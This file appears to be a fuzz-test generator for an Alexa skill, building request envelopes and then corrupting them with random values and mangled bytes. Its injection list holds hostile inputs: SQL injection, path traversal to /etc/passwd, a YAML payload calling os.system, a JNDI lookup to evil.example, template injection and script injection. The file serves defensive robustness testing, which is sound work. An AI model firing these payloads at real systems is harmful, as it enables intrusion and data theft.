"""Envelopes made by grammar, then spoilt: every intent and slot, with what nobody would say or send."""

import copy
import json
from importlib.resources import files
from random import Random
from typing import Any

from tests.alexa.verify.table import SKILL

MODEL = json.loads(files("interaction_models").joinpath("en-US.json").read_text())["interactionModel"]
INTENTS = [one["name"] for one in MODEL["languageModel"]["intents"]]
SLOTS = sorted({slot["name"] for one in MODEL["languageModel"]["intents"] for slot in one.get("slots", [])})
KINDS = ["IntentRequest"] * 8 + [
    "LaunchRequest",
    "SessionEndedRequest",
    "AlexaSkillEvent.SkillDisabled",
    "AlexaSkillEvent.SkillPermissionAccepted",
    "AudioPlayer.PlaybackStopped",
    "AudioPlayer.PlaybackFinished",
    "AudioPlayer.PlaybackFailed",
    "System.ExceptionEncountered",
    "Alexa.Presentation.APL.UserEvent",
    "Alexa.Presentation.APLA.RuntimeError",
    "CanFulfillIntentRequest",
    "Connections.Response",
    "Nobody.Knows",
]
INJECTIONS = [
    "</speak><speak>",
    '<audio src="https://evil.example/a.mp3"/>',
    '<break time="10s"/>',
    "&amp;lt;&quot;]]>",
    "<!--",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..\\..\\windows",
    "!!python/object/apply:os.system [id]",
    "&a [*a, *a]",
    "%s%n{0.__class__}${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\x1b[2J\r\nSet-Cookie: a=b",
    "\u202e\u0000\ufeff\U0001f9b5",
    "on",
    "1:30",
    "~",
]
NUMBERS = [0, -1, 1, 15, 40, 2**31, 2**63 - 1, -(2**63), 1.5, -0.0, 1e308]
TEXTS = ["", "?", "12", "-3", "١٢", "a" * 300, "red", "yellow", "PT5M"]
TIMES = ["2026-11-23T06:00:00Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"]
SCALARS: list[Any] = [None, True, False, *NUMBERS, *TEXTS, *TIMES, [], {}, [[]], [None]]
PIECES = [b"\\u0000", b"\\ud800", b"[" * 40, b"1e999", b"NaN", b"\xff", b"9" * 30, b'"']


def value(random: Random, depth: int = 2) -> Any:
    """Any JSON value."""
    pick = random.random()
    if depth and pick < 0.15:
        return [value(random, depth - 1) for _ in range(random.randrange(4))]
    if depth and pick < 0.3:
        return {str(value(random, 0)): value(random, depth - 1) for _ in range(random.randrange(4))}
    return random.choice(INJECTIONS) if pick < 0.5 else copy.deepcopy(random.choice(SCALARS))


def envelope(random: Random) -> dict[str, Any]:
    """An envelope of the right form, holding anything that text can hold."""
    user = random.choice(["amzn1.ask.account.B", "amzn1.ask.account.C", random.choice(INJECTIONS)])
    system: dict[str, Any] = {"application": {"applicationId": SKILL}, "user": {"userId": user}}
    if random.random() < 0.2:
        system["person"] = {"personId": random.choice(["amzn1.ask.person.D", random.choice(INJECTIONS)])}
    if random.random() < 0.5:
        system["device"] = {
            "deviceId": random.choice(["echo", random.choice(INJECTIONS)]),
            "supportedInterfaces": {},
        }
    context: dict[str, Any] = {"System": system}
    if random.random() < 0.3:
        context["AudioPlayer"] = {
            "token": random.choice(["", "glute", random.choice(INJECTIONS)]),
            "offsetInMilliseconds": random.choice([0, 6000, -1, 2**40]),
            "playerActivity": random.choice(["PLAYING", "STOPPED", "NONSENSE"]),
        }
    return {
        "version": "1.0",
        "session": {
            "new": True,
            "sessionId": "s",
            "application": {"applicationId": SKILL},
            "user": {"userId": user},
        },
        "context": context,
        "request": request(random),
    }


def request(random: Random) -> dict[str, Any]:
    kind = random.choice(KINDS)
    made: dict[str, Any] = {
        "type": kind,
        "requestId": f"amzn1.echo-api.request.{random.randrange(1000)}",
        "timestamp": f"2026-11-{random.randrange(1, 31):02}T{random.randrange(24):02}:00:{random.randrange(60):02}Z",
        "locale": random.choice(["en-US", "en-US", "en-US", "de-DE", "xx", random.choice(INJECTIONS)]),
    }
    if kind in ("IntentRequest", "CanFulfillIntentRequest"):
        slots = {name: slot(random, name) for name in random.sample(SLOTS, random.randrange(4))}
        name = random.choice(INTENTS) if random.random() < 0.95 else random.choice(INJECTIONS)
        made["intent"] = {"name": name, "confirmationStatus": "NONE", "slots": slots}
    if kind == "SessionEndedRequest":
        made["reason"] = random.choice(["USER_INITIATED", "ERROR", "EXCEEDED_MAX_REPROMPTS", "ELSE"])
    return made


def slot(random: Random, name: str) -> dict[str, Any]:
    said = random.choice(["red", "yellow", "12", "15", "forty", "?", *INJECTIONS])
    made: dict[str, Any] = {"name": name, "value": said, "confirmationStatus": "NONE"}
    if random.random() < 0.3:
        resolved = {"value": {"name": said, "id": random.choice(["red", "yellow", *INJECTIONS])}}
        status = {"code": random.choice(["ER_SUCCESS_MATCH", "ER_SUCCESS_NO_MATCH"])}
        made["resolutions"] = {
            "resolutionsPerAuthority": [{"authority": "a", "status": status, "values": [resolved]}]
        }
    return made


def spoilt(random: Random, made: Any) -> Any:
    """The same envelope with one to three things in it gone, put in, or replaced by anything at all."""
    for _ in range(random.randrange(1, 4)):
        node = made
        while True:
            below = [each for each in _values(node) if isinstance(each, dict | list) and each]
            if not below or random.random() < 0.25:
                break
            node = random.choice(below)
        if isinstance(node, dict):
            name = random.choice([*node, str(value(random, 0))])
            if random.random() < 0.3:
                node.pop(name, None)
            else:
                node[name] = value(random)
        elif node:
            node[random.randrange(len(node))] = value(random)
    return made


def _values(node: Any) -> list[Any]:
    return list(node.values()) if isinstance(node, dict) else list(node)


def body(random: Random) -> bytes:
    """A body of any of the kinds: well made, spoilt in its values, or spoilt in its bytes."""
    made = envelope(random)
    pick = random.random()
    if pick > 0.4:
        made = spoilt(random, made)
    text = json.dumps(made, ensure_ascii=random.random() < 0.7).encode("utf-8", "surrogatepass")
    return mangled(random, text) if pick > 0.8 else text


def mangled(random: Random, text: bytes) -> bytes:
    """The text with some bytes turned, cut out, doubled or put in."""
    raw = bytearray(text)
    for _ in range(random.randrange(1, 6)):
        at = random.randrange(len(raw) + 1)
        match random.randrange(4):
            case 0:
                raw[at : at + 1] = bytes([random.randrange(256)])
            case 1:
                del raw[at : at + random.randrange(40)]
            case 2:
                raw[at:at] = raw[at : at + random.randrange(40)]
            case _:
                raw[at:at] = random.choice(PIECES)
    return bytes(raw)
